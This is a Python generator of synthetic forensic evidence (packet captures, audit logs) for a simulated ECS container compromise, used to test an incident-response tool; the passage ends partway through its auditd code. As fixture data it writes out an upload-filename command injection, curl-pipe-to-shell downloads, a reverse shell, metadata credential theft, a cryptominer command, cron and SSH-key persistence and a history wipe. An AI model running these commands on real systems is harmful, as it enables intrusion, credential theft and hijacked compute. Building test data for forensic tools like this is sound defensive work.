#!/usr/bin/env python3
"""Generate backsight's reference incident, in every native evidence format backsight reads.

usage: samples/generate.py [OUTDIR]      (default: the directory holding this script)

Writes OUTDIR/evidence/ (what an investigator would be handed), OUTDIR/case.yaml (what the
evidence cannot say about the hosts) and nothing else. The story, the files and what backsight
should find are in README.md beside this script.

Deterministic: the Python 3 standard library only, no network, no clock, one seeded random
source consumed in a fixed order, gzip with mtime 0. Run it twice and the bytes are the same;
tests/test-samples.c checks that the committed files are what this script writes.

Every file is written in its real format, so the real tools read it: `tcpdump -r` / `tshark -r`
(pcap, pcapng), `ausearch -if` (auditd), `sysdig -r` (.scap), `zcat | jq` (CloudTrail,
GuardDuty). The addresses are documentation ranges (RFC 5737) or private; the secrets are
made up and shaped like the real ones.
"""
import datetime
import gzip
import hashlib
import io
import json
import os
import random
import struct
import sys
import uuid

# ---------------------------------------------------------------------------------------------
# The world

T0 = 1795399200  # 2026-11-23T02:00:00Z: the hour the evidence covers
DAY = "2026-11-23"
ACCOUNT = "111122223333"
REGION = "eu-west-1"
HOST = "ip-10-0-1-23.eu-west-1.compute.internal"  # the EC2 container instance
INSTANCE = "i-0a1b2c3d4e5f60718"
INSTANCE_IP = "10.0.1.23"
CLUSTER = "prod-web"
TASK = "0f3c9a1e5b7d4c2a8e6f1b3d5c7a9e0f"
TASK_ARN = f"arn:aws:ecs:{REGION}:{ACCOUNT}:task/{CLUSTER}/{TASK}"
TASK_IP = "10.0.1.87"          # the task's ENI (awsvpc network mode)
TASK_BRIDGE_IP = "169.254.172.2"  # the task's ecs-eth0 on the ecs-bridge
ECS_CREDS = "169.254.170.2"
ROLE = "web-task"
ROLE_ARN = f"arn:aws:iam::{ACCOUNT}:role/{ROLE}"
SESSION_ARN = f"arn:aws:sts::{ACCOUNT}:assumed-role/{ROLE}/{TASK}"
ROLE_ID = "AROAQNZGKEXAMPLEWEB01"
CONTAINER_ID = "7d2b1f0c9e8a4b3c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c"
CONTAINER_NAME = "web"
IMAGE = f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/shop-web:2.14.1"
KEY = "ASIAQNZGKEXAMPLE7STL"  # the task's credentials, fetched by the app and by the attacker
CRED_EXPIRY = "2026-11-23T07:58:40Z"
CRED_PATH = "/v2/credentials/7e1c4b52-93d0-4f6a-b1e8-2c5d9a0f3e61"
NAT_IP = "52.49.10.10"        # the VPC's NAT gateway: the workload's address on the internet
ALBS = ["10.0.0.14", "10.0.2.201"]
VPC_DNS = "10.0.0.2"
ATTACKER = "198.51.100.7"     # exploit, downloads, reverse shell
ATTACKER_API = "203.0.113.50"  # where the stolen key is used from (outside AWS)
POOL = "pool.supportxmr.com"
POOL_IP = "192.0.2.77"
CI_IP = "10.0.3.44"           # another host: the build runner
ADMIN_IP = "192.0.2.10"       # the operations team's office

rng = random.Random(20261123)


def ts(sec, us=0):
    """Nanoseconds since the epoch for T0 + sec seconds + us microseconds."""
    return (T0 + sec) * 1_000_000_000 + us * 1000


def iso(ns, frac=False):
    """RFC 3339 UTC, whole seconds or milliseconds."""
    s, rem = divmod(ns, 1_000_000_000)
    out = datetime.datetime.fromtimestamp(s, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
    if frac:
        out += f".{rem // 1_000_000:03d}"
    return out + "Z"


def hexid(n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def alnum(n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def uid4():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


SECRET = alnum(40, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
TOKEN = "IQoJb3JpZ2luX2VjE" + alnum(600, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") + "=="

# ---------------------------------------------------------------------------------------------
# The processes (host pids; the container's own pid namespace numbers are in the GuardDuty finding)

# pid: (ppid, uid, comm, exe, argv, cwd)
PROCS = {
    1: (0, 0, "systemd", "/usr/lib/systemd/systemd", ["/usr/lib/systemd/systemd", "--switched-root", "--system"], "/"),
    905: (1, 0, "amazon-ssm-agen", "/usr/bin/amazon-ssm-agent", ["/usr/bin/amazon-ssm-agent"], "/"),
    1010: (1, 0, "containerd", "/usr/bin/containerd", ["/usr/bin/containerd"], "/"),
    1022: (1, 0, "dockerd", "/usr/bin/dockerd", ["/usr/bin/dockerd", "--default-ulimit", "nofile=32768:65536"], "/"),
    1894: (1010, 0, "agent", "/agent", ["/agent"], "/"),  # the ECS agent, itself a container
    2771: (1, 0, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
           ["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", CONTAINER_ID, "-address",
            "/run/containerd/containerd.sock"], "/"),
    2790: (2771, 0, "apache2", "/usr/sbin/apache2", ["apache2", "-DFOREGROUND"], "/var/www/html"),
    2817: (2790, 33, "apache2", "/usr/sbin/apache2", ["apache2", "-DFOREGROUND"], "/var/www/html"),
    2818: (2790, 33, "apache2", "/usr/sbin/apache2", ["apache2", "-DFOREGROUND"], "/var/www/html"),
    2819: (2790, 33, "apache2", "/usr/sbin/apache2", ["apache2", "-DFOREGROUND"], "/var/www/html"),
}
IN_CONTAINER = {2790, 2817, 2818, 2819}
CONTAINER_NSPID = {2790: 1, 2817: 17, 2818: 18, 2819: 19, 4242: 88, 4243: 89, 4244: 90, 4245: 91, 4249: 95}

INJECTED = "convert '/var/www/html/uploads/a$(curl -s http://198.51.100.7/x.sh | sh).jpg' -resize 256x256 /var/www/html/thumbs/a.jpg"
SCRIPT = (b"#!/bin/sh\nmkdir -p /tmp/.x && cd /tmp/.x\ncurl -s -o kworker http://198.51.100.7/kworker\n"
          b"chmod +x kworker\n./kworker >/dev/null 2>&1 &\n")
WALLET = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
MINER_ARGV = ["/tmp/.x/xmrig", "-o", f"{POOL}:443", "--tls", "-u", WALLET, "-p", "x", "--donate-level", "1", "-B"]
SSH_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHbq5uyK1JxZp3lq0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5 k@kali"

# The attacker's hour, as host activity (second offsets from T0). Each step is what the three
# syscall sources can see: an execve (pid, ppid, uid, exe, argv, cwd), a write-open, a connect,
# an unlink, a rename, a dup2. Which source saw which step depends on when it was running.
ATTACK = []


def step(sec, us, kind, pid, **kw):
    ATTACK.append(dict(t=ts(sec, us), kind=kind, pid=pid, **kw))


def exec_(sec, us, pid, ppid, exe, argv, cwd, uid=33, comm=None):
    step(sec, us, "execve", pid, ppid=ppid, exe=exe, argv=argv, cwd=cwd, uid=uid,
         comm=comm or os.path.basename(argv[0]))


# 02:14:58 the exploit request arrives (pcap); 02:15:00 apache's mod_php runs the injected command
exec_(900, 213044, 4242, 2817, "/usr/bin/dash", ["sh", "-c", INJECTED], "/var/www/html", comm="sh")
exec_(900, 219871, 4244, 4243, "/usr/bin/curl", ["curl", "-s", "http://198.51.100.7/x.sh"], "/var/www/html")
exec_(900, 220406, 4245, 4243, "/usr/bin/dash", ["sh"], "/var/www/html")
step(900, 233150, "connect", 4244, fd=5, laddr=(TASK_IP, 40412), raddr=(ATTACKER, 80))
exec_(900, 401322, 4246, 4245, "/usr/bin/mkdir", ["mkdir", "-p", "/tmp/.x"], "/var/www/html")
exec_(900, 409870, 4247, 4245, "/usr/bin/curl", ["curl", "-s", "-o", "kworker", "http://198.51.100.7/kworker"], "/tmp/.x")
step(900, 415512, "connect", 4247, fd=5, laddr=(TASK_IP, 40414), raddr=(ATTACKER, 80))
step(900, 520118, "open_write", 4247, fd=6, path="/tmp/.x/kworker", flags="O_WRONLY|O_CREAT|O_TRUNC", mode=0o666, cwd="/tmp/.x", rel="kworker")
exec_(901, 2170, 4248, 4245, "/usr/bin/chmod", ["chmod", "+x", "kworker"], "/tmp/.x")
exec_(901, 10233, 4249, 4245, "/tmp/.x/kworker", ["./kworker"], "/tmp/.x", comm="kworker")
step(901, 15002, "connect", 4249, fd=3, laddr=(TASK_IP, 46122), raddr=(ATTACKER, 4444))
step(901, 15441, "dup2", 4249, oldfd=3, newfd=0)
step(901, 15460, "dup2", 4249, oldfd=3, newfd=1)
step(901, 15477, "dup2", 4249, oldfd=3, newfd=2)
exec_(901, 15930, 4249, 4245, "/usr/bin/dash", ["sh", "-i"], "/tmp/.x", comm="sh")
exec_(901, 30118, 4250, 4242, "/usr/bin/convert-im6.q16",
      ["convert", "/var/www/html/uploads/a.jpg", "-resize", "256x256", "/var/www/html/thumbs/a.jpg"], "/var/www/html",
      comm="convert")
# 02:23 onwards, in the reverse shell (sh -i, pid 4249): recon, the credentials, a miner, persistence
RSH = 4249
exec_(1390, 118201, 4301, RSH, "/usr/bin/id", ["id"], "/tmp/.x")
exec_(1396, 402117, 4302, RSH, "/usr/bin/uname", ["uname", "-a"], "/tmp/.x")
exec_(1411, 50321, 4303, RSH, "/usr/bin/cat", ["cat", "/proc/self/environ"], "/tmp/.x")
exec_(1445, 220904, 4305, RSH, "/usr/bin/curl", ["curl", "-s", f"http://{ECS_CREDS}{CRED_PATH}"], "/tmp/.x")
step(1445, 226117, "connect", 4305, fd=5, laddr=(TASK_BRIDGE_IP, 51822), raddr=(ECS_CREDS, 80))
exec_(1590, 701200, 4330, RSH, "/usr/bin/curl", ["curl", "-s", "-o", "xmrig", "http://198.51.100.7/xmrig"], "/tmp/.x")
step(1590, 706010, "connect", 4330, fd=5, laddr=(TASK_IP, 40530), raddr=(ATTACKER, 80))
step(1590, 881002, "open_write", 4330, fd=6, path="/tmp/.x/xmrig", flags="O_WRONLY|O_CREAT|O_TRUNC", mode=0o666, cwd="/tmp/.x", rel="xmrig")
exec_(1596, 12008, 4331, RSH, "/usr/bin/chmod", ["chmod", "+x", "xmrig"], "/tmp/.x")
exec_(1599, 330187, 4333, RSH, "/tmp/.x/xmrig", MINER_ARGV, "/tmp/.x", comm="xmrig")
step(1599, 402551, "connect", 4333, fd=12, laddr=(TASK_IP, 47190), raddr=(VPC_DNS, 53), proto="udp")
step(1599, 611870, "connect", 4333, fd=13, laddr=(TASK_IP, 36402), raddr=(POOL_IP, 443))
exec_(1740, 520110, 4360, RSH, "/usr/bin/crontab", ["crontab", "-l"], "/tmp/.x")
exec_(1740, 524900, 4361, RSH, "/usr/bin/crontab", ["crontab", "-"], "/tmp/.x")
step(1740, 530061, "open_write", 4361, fd=3, path="/var/spool/cron/crontabs/tmp.4361", flags="O_WRONLY|O_CREAT|O_EXCL",
     mode=0o600, cwd="/tmp/.x", rel="/var/spool/cron/crontabs/tmp.4361")
step(1740, 531780, "rename", 4361, old="/var/spool/cron/crontabs/tmp.4361", new="/var/spool/cron/crontabs/www-data",
     cwd="/tmp/.x")
exec_(1762, 90127, 4363, RSH, "/usr/bin/mkdir", ["mkdir", "-p", "/var/www/.ssh"], "/tmp/.x")
step(1762, 104502, "open_write", RSH, fd=4, path="/var/www/.ssh/authorized_keys", flags="O_WRONLY|O_CREAT|O_APPEND",
     mode=0o666, cwd="/tmp/.x", rel="/var/www/.ssh/authorized_keys")
exec_(1851, 660310, 4370, RSH, "/usr/bin/rm", ["rm", "-f", "/var/www/.bash_history"], "/tmp/.x")
step(1851, 661822, "unlink", 4370, path="/var/www/.bash_history", cwd="/tmp/.x")
step(1858, 0, "exit", RSH)

STRACE_WINDOW = (ts(871, 402117), ts(965, 118020))   # the app team's strace of apache worker 2817
SCAP_WINDOW = (ts(1320), ts(2700))                   # the responder's sysdig capture, 02:22 to 02:45
GUARDDUTY_AT = ts(1212, 118000)                      # the finding is published at 02:20:12

# ---------------------------------------------------------------------------------------------
# Packets: Ethernet / IPv4 / TCP, UDP with real checksums


def ip4(a):
    return bytes(int(x) for x in a.split("."))


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Wire:
    """Frames on one interface: (ns, bytes), with the MACs of the two ends of a link."""

    def __init__(self, local_mac, gw_mac):
        self.frames = []
        self.local_mac, self.gw_mac = local_mac, gw_mac
        self.ip_id = rng.randrange(1, 60000)

    def frame(self, t, src, dst, proto, l4, outbound):
        self.ip_id = (self.ip_id + 1) & 0xFFFF
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), self.ip_id, 0x4000, 64 if outbound else 52,
                          proto, 0, ip4(src), ip4(dst))
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        macs = (self.gw_mac + self.local_mac) if not outbound else (self.local_mac + self.gw_mac)
        self.frames.append((t, macs + b"\x08\x00" + hdr + l4))

    def tcp(self, t, src, sport, dst, dport, seq, ack, flags, payload, outbound):
        hl = 5
        seg = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, hl << 4, flags, 62727, 0, 0)
        pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 6, len(seg) + len(payload))
        c = csum(pseudo + seg + payload)
        seg = seg[:16] + struct.pack("!H", c) + seg[18:]
        self.frame(t, src, dst, 6, seg + payload, outbound)

    def udp(self, t, src, sport, dst, dport, payload, outbound):
        seg = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
        pseudo = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 17, len(seg) + len(payload))
        c = csum(pseudo + seg + payload) or 0xFFFF
        self.frame(t, src, dst, 17, seg[:6] + struct.pack("!H", c) + payload, outbound)

    def session(self, t, client, cport, server, sport, exchange, client_is_local=True, rtt_us=900, mss=1448):
        """A whole TCP connection: handshake, the (direction, bytes, gap_us) exchange, FIN from the client."""
        cseq, sseq = rng.getrandbits(32), rng.getrandbits(32)
        out = client_is_local
        self.tcp(t, client, cport, server, sport, cseq, 0, 0x02, b"", out)
        t += rtt_us * 1000
        self.tcp(t, server, sport, client, cport, sseq, cseq + 1, 0x12, b"", not out)
        t += 40_000
        cseq += 1
        sseq += 1
        self.tcp(t, client, cport, server, sport, cseq, sseq, 0x10, b"", out)
        for direction, data, gap in exchange:
            t += gap * 1000
            for i in range(0, len(data), mss):
                chunk = data[i:i + mss]
                if direction == "c":
                    self.tcp(t, client, cport, server, sport, cseq, sseq, 0x18, chunk, out)
                    cseq += len(chunk)
                else:
                    self.tcp(t, server, sport, client, cport, sseq, cseq, 0x18, chunk, not out)
                    sseq += len(chunk)
                t += 30_000
            t += rtt_us * 1000 // 2
            if direction == "c":
                self.tcp(t, server, sport, client, cport, sseq, cseq, 0x10, b"", not out)
            else:
                self.tcp(t, client, cport, server, sport, cseq, sseq, 0x10, b"", out)
        t += 2_000_000
        self.tcp(t, client, cport, server, sport, cseq, sseq, 0x11, b"", out)
        t += rtt_us * 1000
        self.tcp(t, server, sport, client, cport, sseq, cseq + 1, 0x11, b"", not out)
        t += 40_000
        self.tcp(t, client, cport, server, sport, cseq + 1, sseq + 1, 0x10, b"", out)
        return t


def dns_name(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"


def dns_exchange(wire, t, client, cport, name, answers, qtype=1):
    qid = rng.getrandbits(16)
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", qtype, 1)
    wire.udp(t, client, cport, VPC_DNS, 53, q, True)
    r = struct.pack("!HHHHHH", qid, 0x8180, 1, len(answers), 0, 0) + dns_name(name) + struct.pack("!HH", qtype, 1)
    for a in answers:
        r += struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + ip4(a)
    wire.udp(t + 1_200_000, VPC_DNS, 53, client, cport, r, False)


def client_hello(sni):
    rand = bytes(rng.getrandbits(8) for _ in range(32))
    sid = bytes(rng.getrandbits(8) for _ in range(32))
    ciphers = [0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8, 0xC013, 0xC014, 0x009C,
               0x009D, 0x002F, 0x0035]
    ext = b""

    def e(typ, body):
        return struct.pack("!HH", typ, len(body)) + body
    host = sni.encode()
    ext += e(0, struct.pack("!HBH", len(host) + 3, 0, len(host)) + host)
    ext += e(23, b"")
    ext += e(65281, b"\0")
    ext += e(10, struct.pack("!H", 8) + struct.pack("!4H", 0x001D, 0x0017, 0x0018, 0x0019))
    ext += e(11, b"\x01\x00")
    ext += e(35, b"")
    ext += e(16, struct.pack("!H", 12) + b"\x02h2\x08http/1.1")
    ext += e(13, struct.pack("!H", 16) + struct.pack("!8H", 0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501,
                                                         0x0806, 0x0601))
    ext += e(43, b"\x04\x03\x04\x03\x03")
    ext += e(45, b"\x01\x01")
    key = bytes(rng.getrandbits(8) for _ in range(32))
    ext += e(51, struct.pack("!HHH", 36, 0x001D, 32) + key)
    body = (b"\x03\x03" + rand + bytes([32]) + sid + struct.pack("!H", 2 * len(ciphers)) +
            b"".join(struct.pack("!H", c) for c in ciphers) + b"\x01\x00" + struct.pack("!H", len(ext)) + ext)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def server_hello():
    rand = bytes(rng.getrandbits(8) for _ in range(32))
    sid = bytes(rng.getrandbits(8) for _ in range(32))
    ext = struct.pack("!HHH", 43, 2, 0x0304) + struct.pack("!HHHH", 51, 36, 0x001D, 32) + bytes(
        rng.getrandbits(8) for _ in range(32))
    body = b"\x03\x03" + rand + bytes([32]) + sid + b"\x13\x01\x00" + struct.pack("!H", len(ext)) + ext
    hs = b"\x02" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x03" + struct.pack("!H", len(hs)) + hs + b"\x14\x03\x03\x00\x01\x01"


def app_data(n):
    return b"\x17\x03\x03" + struct.pack("!H", n) + bytes(rng.getrandbits(8) for _ in range(n))


def http_resp(status, ctype, body, extra=""):
    reason = {200: "OK", 404: "Not Found"}[status]
    return (f"HTTP/1.1 {status} {reason}\r\n{extra}Content-Type: {ctype}\r\nContent-Length: {len(body)}\r\n\r\n"
            .encode() + body)


def fake_elf(n):
    head = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + struct.pack("<HHI", 2, 0x3E, 1)
    return head + bytes(rng.getrandbits(8) for _ in range(n - len(head)))


def cred_json(expiry):
    return json.dumps({"RoleArn": ROLE_ARN, "AccessKeyId": KEY, "SecretAccessKey": SECRET, "Token": TOKEN,
                       "Expiration": expiry}).encode()


def build_eth0():
    """The task ENI (eth1 of the instance, the task's own address): what crossed the VPC."""
    w = Wire(bytes.fromhex("0a1b2c3d4e5f"), bytes.fromhex("0aff00112233"))
    port = 41000
    # ALB health checks, every 15 s from each of the two load balancer nodes
    for i in range(240):
        alb = ALBS[i % 2]
        t = ts(i * 15 + (7 if i % 2 else 0), rng.randrange(1_000_000))
        port += rng.randrange(1, 40)
        req = f"GET /healthz HTTP/1.1\r\nHost: {TASK_IP}\r\nConnection: close\r\nUser-Agent: ELB-HealthChecker/2.0\r\nAccept-Encoding: gzip, compressed\r\n\r\n".encode()
        w.session(t, alb, port, TASK_IP, 80, [("c", req, 300), ("s", http_resp(200, "text/plain", b"ok\n"), 2100)],
                  client_is_local=False, rtt_us=350)
    # shoppers through the load balancer
    pages = ["/", "/products/42", "/cart", "/static/app.css", "/products/7", "/search?q=boots"]
    for i in range(90):
        t = ts(rng.randrange(3600), rng.randrange(1_000_000))
        port += rng.randrange(1, 40)
        page = rng.choice(pages)
        req = (f"GET {page} HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
               f"AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36\r\nX-Forwarded-For: 192.0.2.{rng.randrange(20, 250)}\r\n"
               "X-Forwarded-Proto: https\r\nAccept: text/html\r\n\r\n").encode()
        body = b"<!doctype html><title>shop</title>" + b"x" * rng.randrange(200, 3000)
        w.session(t, rng.choice(ALBS), port, TASK_IP, 80, [("c", req, 200), ("s", http_resp(200, "text/html", body), 9000)],
                  client_is_local=False, rtt_us=350)
    # the application's own AWS calls: S3 over the gateway endpoint, KMS through the NAT gateway
    for i in range(30):
        t = ts(60 + i * 120, rng.randrange(1_000_000))
        dns_exchange(w, t, TASK_IP, 50000 + i, f"s3.{REGION}.amazonaws.com", ["52.218.100.12"])
        w.session(t + 3_000_000, TASK_IP, 43000 + i, "52.218.100.12", 443,
                  [("c", client_hello(f"app-assets-{ACCOUNT}.s3.{REGION}.amazonaws.com"), 100),
                   ("s", server_hello(), 2000), ("c", app_data(420), 300), ("s", app_data(3100), 4000)], rtt_us=1200)
    # the exploit: a multipart upload whose file name is a command
    t = ts(898, 930411)
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    part = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"image\"; filename=\"a$(curl -s http://198.51.100.7/x.sh | sh).jpg\"\r\n"
            f"Content-Type: image/jpeg\r\n\r\n").encode() + b"\xff\xd8\xff\xe0" + b"\0" * 60 + f"\r\n--{boundary}--\r\n".encode()
    req = (f"POST /upload.php HTTP/1.1\r\nHost: {TASK_IP}\r\nUser-Agent: python-requests/2.31.0\r\nAccept: */*\r\n"
           f"Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {len(part)}\r\n\r\n").encode() + part
    w.session(t, ATTACKER, 51514, TASK_IP, 80, [("c", req, 300),
                                                  ("s", http_resp(200, "text/html", b"<p>thumbnail created</p>\n"), 2_400_000)],
              client_is_local=False, rtt_us=24000)
    # the downloads
    w.session(ts(900, 233150), TASK_IP, 40412, ATTACKER, 80,
              [("c", b"GET /x.sh HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", 100),
               ("s", http_resp(200, "text/x-sh", SCRIPT), 48000)], rtt_us=24000)
    w.session(ts(900, 415512), TASK_IP, 40414, ATTACKER, 80,
              [("c", b"GET /kworker HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", 100),
               ("s", http_resp(200, "application/octet-stream", fake_elf(14336)), 48000)], rtt_us=24000)
    # the reverse shell: sh -i on the attacker's terminal
    env = (f"HOSTNAME=ip-10-0-1-87.eu-west-1.compute.internal\0PHP_VERSION=8.2.26\0APACHE_RUN_USER=www-data\0"
           f"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI={CRED_PATH}\0AWS_DEFAULT_REGION={REGION}\0"
           f"AWS_EXECUTION_ENV=AWS_ECS_EC2\0ECS_CONTAINER_METADATA_URI_V4=http://{ECS_CREDS}/v4/{TASK}-1234567890\0"
           "PWD=/var/www/html\0").encode()
    shell = [
        ("s", b"sh: 0: can't access tty; job control turned off\n$ ", 400),
        ("c", b"id\n", (1390 - 901) * 1_000_000 - 300_000),
        ("s", b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n$ ", 5000),
        ("c", b"uname -a\n", 6_200_000),
        ("s", b"Linux ip-10-0-1-87.eu-west-1.compute.internal 6.1.115-126.197.amzn2023.x86_64 #1 SMP PREEMPT_DYNAMIC "
              b"Tue Nov  5 17:36:57 UTC 2024 x86_64 GNU/Linux\n$ ", 4000),
        ("c", b"cat /proc/self/environ\n", 14_600_000),
        ("s", env + b"$ ", 3000),
        ("c", b"curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI\n", 34_100_000),
        ("s", b"{\"RoleArn\":\"" + ROLE_ARN.encode() + b"\",\"AccessKeyId\":\"" + KEY.encode() +
              b"\",\"SecretAccessKey\":\"<REDACTED by the sample generator>\",...}\n$ ", 30000),
        ("c", b"cd /tmp/.x; curl -s -o xmrig http://198.51.100.7/xmrig; chmod +x xmrig\n", 145_400_000),
        ("s", b"$ ", 5_400_000),
        ("c", b"./xmrig -o pool.supportxmr.com:443 --tls -u " + WALLET.encode() + b" -p x --donate-level 1 -B\n", 3_300_000),
        ("s", b" * ABOUT        XMRig/6.21.0 gcc/12.2.0\n * POOL #1      pool.supportxmr.com:443 algo auto\n$ ", 90_000),
        ("c", b"(crontab -l 2>/dev/null; echo '*/10 * * * * /tmp/.x/kworker') | crontab -\n", 140_800_000),
        ("s", b"$ ", 12000),
        ("c", b"mkdir -p ~/.ssh; echo '" + SSH_KEY.encode() + b"' >> ~/.ssh/authorized_keys\n", 21_500_000),
        ("s", b"$ ", 9000),
        ("c", b"rm -f ~/.bash_history; history -c; exit\n", 89_500_000),
    ]
    w.session(ts(901, 15002), TASK_IP, 46122, ATTACKER, 4444, shell, rtt_us=24000)
    # the miner's download, DNS lookup and pool connection
    w.session(ts(1590, 706010), TASK_IP, 40530, ATTACKER, 80,
              [("c", b"GET /xmrig HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n", 100),
               ("s", http_resp(200, "application/octet-stream", fake_elf(24576)), 48000)], rtt_us=24000)
    dns_exchange(w, ts(1599, 402551), TASK_IP, 47190, POOL, [POOL_IP])
    pool = [("c", client_hello(POOL), 100), ("s", server_hello(), 30000)]
    for k in range(20):
        pool += [("c", app_data(180), 45_000_000), ("s", app_data(310), 60000)]
    w.session(ts(1599, 611870), TASK_IP, 36402, POOL_IP, 443, pool, rtt_us=30000)
    return w.frames


def build_bridge():
    """The ecs-bridge: the task's ecs-eth0 and the ECS agent's credential endpoint."""
    w = Wire(bytes.fromhex("0a58a9feac02"), bytes.fromhex("0a58a9feac01"))
    # the attacker's curl to the credential endpoint. The application's SDK fetched the same
    # credentials at 01:58:41, before this capture, and caches them until shortly before they expire.
    t, cport = ts(1445, 226117), 51822
    req = f"GET {CRED_PATH} HTTP/1.1\r\nHost: {ECS_CREDS}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n".encode()
    w.session(t, TASK_BRIDGE_IP, cport, ECS_CREDS, 80,
              [("c", req, 100), ("s", http_resp(200, "application/json", cred_json(CRED_EXPIRY),
                                                "Date: Mon, 23 Nov 2026 02:24:05 GMT\r\n"), 1800)], rtt_us=80)
    # the task metadata endpoint, which the app's logging sidecar polls every minute
    for i in range(60):
        t = ts(i * 60 + 31, rng.randrange(1_000_000))
        req = f"GET /v4/{TASK}-1234567890/stats HTTP/1.1\r\nHost: {ECS_CREDS}\r\nUser-Agent: Go-http-client/1.1\r\nAccept-Encoding: gzip\r\n\r\n".encode()
        body = json.dumps({"read": iso(t), "cpu_stats": {"cpu_usage": {"total_usage": 1000000 + i * 37119}},
                           "memory_stats": {"usage": 81534976 + i * 4096}}).encode()
        w.session(t, TASK_BRIDGE_IP, 52000 + i, ECS_CREDS, 80, [("c", req, 100), ("s", http_resp(200, "application/json", body), 900)],
                  rtt_us=80)
    return w.frames


def write_pcap(path, frames):
    frames = sorted(frames, key=lambda f: f[0])
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1))
        for t, data in frames:
            s, us = divmod(t // 1000, 1_000_000)
            f.write(struct.pack("<IIII", s, us, len(data), len(data)) + data)


def pcapng_block(btype, body):
    body += b"\0" * (-len(body) % 4)
    n = len(body) + 12
    return struct.pack("<II", btype, n) + body + struct.pack("<I", n)


def pcapng_opt(code, val):
    return struct.pack("<HH", code, len(val)) + val + b"\0" * (-len(val) % 4)


def write_pcapng(path, frames, ifname, desc):
    frames = sorted(frames, key=lambda f: f[0])
    shb = struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1) + pcapng_opt(3, b"Linux 6.1.115-126.197.amzn2023.x86_64") + \
        pcapng_opt(4, b"Dumpcap (Wireshark) 4.0.17") + pcapng_opt(0, b"")
    idb = struct.pack("<HHI", 1, 0, 262144) + pcapng_opt(2, ifname.encode()) + pcapng_opt(3, desc.encode()) + \
        pcapng_opt(9, b"\x09") + pcapng_opt(0, b"")
    with open(path, "wb") as f:
        f.write(pcapng_block(0x0A0D0D0A, shb))
        f.write(pcapng_block(1, idb))
        for t, data in frames:
            f.write(pcapng_block(6, struct.pack("<IIIII", 0, t >> 32, t & 0xFFFFFFFF, len(data), len(data)) + data))


# ---------------------------------------------------------------------------------------------
# auditd: the container instance's audit.log (raw records as the kernel and auditd write them)

SYSCALL_NR = {"execve": 59, "connect": 42, "openat": 257, "unlinkat": 263, "renameat": 264}


def audit_str(v):
    """A value as auditd logs an untrusted string: quoted, or hex when it holds space, quote or control."""
    b = v.encode() if isinstance(v, str) else v
    if any(c <= 0x20 or c >= 0x7F or c == 0x22 for c in b):
        return b.hex().upper()
    return '"' + b.decode() + '"'


USERS = {0: "root", 33: "www-data", 1001: "ssm-user", 4294967295: "unset"}
SYSCALL_NAME = {v: k for k, v in SYSCALL_NR.items()}


def enrich(typ, body):
    """The interpreted fields auditd's log_format = ENRICHED (Amazon Linux 2023's default) appends after 0x1d."""
    kv = dict(x.split("=", 1) for x in body.split(" ") if "=" in x and not x.startswith("msg="))
    names = [("auid", "AUID"), ("uid", "UID"), ("gid", "GID"), ("euid", "EUID"), ("suid", "SUID"), ("fsuid", "FSUID"),
             ("egid", "EGID"), ("sgid", "SGID"), ("fsgid", "FSGID")]
    if typ == "SYSCALL":
